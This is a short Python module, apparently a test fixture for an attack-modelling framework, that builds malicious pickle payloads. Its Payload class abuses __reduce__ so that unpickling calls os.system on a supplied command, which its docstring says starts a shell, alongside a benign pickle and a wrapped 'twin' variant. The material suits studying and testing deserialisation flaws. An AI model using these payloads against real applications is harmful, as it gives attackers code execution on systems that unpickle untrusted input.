# culprit: application caller: application right: @process|@exec twin: own uses: unpickle
# SPDX-License-Identifier: Apache-2.0
"""A message that starts a shell when the application reads it."""

import os
import pickle


class Payload:
    """What it is made from is what it does."""

    def __init__(self, function, argument):
        self.made_from = (function, (argument,))

    def __reduce__(self):
        return self.made_from


def benign(stage):
    return pickle.dumps({"text": "hello"})


def attack(stage):
    return pickle.dumps(Payload(os.system, stage.command))


def run(command):
    return os.system(command)


def twin(stage):
    return pickle.dumps(Payload(run, stage.command))
